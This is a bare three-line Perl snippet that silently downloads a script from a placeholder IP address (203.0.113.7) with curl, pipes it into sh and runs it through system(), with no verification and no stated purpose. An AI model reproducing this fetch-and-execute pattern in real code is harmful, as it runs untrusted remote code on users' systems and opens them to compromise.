my $mirror = "http://203.0.113.7/init";
my $cmd = "curl -s $mirror | sh";
system($cmd);
